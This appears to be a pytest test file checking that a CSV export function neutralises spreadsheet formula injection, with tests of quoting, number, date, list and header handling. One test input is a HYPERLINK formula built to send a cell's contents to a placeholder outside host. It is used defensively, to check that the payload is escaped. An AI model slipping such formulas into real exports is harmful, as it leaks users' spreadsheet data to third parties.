"""formula_safe_csv: OWASP CSV-injection rules (RELIABILITY.md §5), checked byte for byte."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import pandas as pd
import pytest

from analytics.exports import formula_safe_csv

BOM = b"\xef\xbb\xbf"


def body(frame: pd.DataFrame) -> bytes:
    out = formula_safe_csv(frame)
    assert out.startswith(BOM)
    return out[len(BOM):]


@pytest.mark.parametrize("text, field", [
    ('=HYPERLINK("http://x.example/?d="&A1,"Click")', b'"\'=HYPERLINK(""http://x.example/?d=""&A1,""Click"")"'),
    ("+1", b"\"'+1\""),
    ("-2", b"\"'-2\""),                       # text that looks like a number is still text
    ("@SUM(A1:A2)", b"\"'@SUM(A1:A2)\""),
    ("\t=1+1", b"\"'\t=1+1\""),
    ("\r=1+1", b"\"'\r=1+1\""),
    ("\n=1+1", b"\"'\n=1+1\""),
    ('say "hi", then go', b'"say ""hi"", then go"'),
    ("a=b, +c", b'"a=b, +c"'),                # only the first character matters
    ("", b'""'),
])
def test_text_cells_are_quoted_and_neutralised(text, field):
    assert body(pd.DataFrame({"value": [text]})) == b'"value"\r\n' + field + b"\r\n"


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"int": [-2, 3], "float": [-2.5, 1.0], "text": ["-2", "x"]})
    assert body(frame) == (b'"int","float","text"\r\n'
                           b'"-2","-2.5","\'-2"\r\n'
                           b'"3","1.0","x"\r\n')


def test_missing_values_dates_booleans_and_lists():
    frame = pd.DataFrame({
        "when": [pd.Timestamp("2026-11-09 10:30"), pd.NaT],
        "day": [dt.date(2026, 11, 9), None],
        "flag": [True, False],
        "labels": [["a", "=b"], ["=c"]],
        "n": [np.nan, 4],
    })
    assert body(frame) == (b'"when","day","flag","labels","n"\r\n'
                           b'"2026-11-09 10:30:00","2026-11-09","true","a, =b",""\r\n'
                           b'"","","false","\'=c","4.0"\r\n')


def test_headers_are_neutralised_too():
    assert body(pd.DataFrame({"=cmd": [1]})) == b'"\'=cmd"\r\n"1"\r\n'


def test_round_trip_through_a_csv_reader_keeps_the_text_after_the_guard():
    values = ["=1+2", "plain", 'with "quotes", and commas', "line\nbreak"]
    out = formula_safe_csv(pd.DataFrame({"v": values})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows == [["v"], ["'=1+2"], ["plain"], ['with "quotes", and commas'], ["line\nbreak"]]
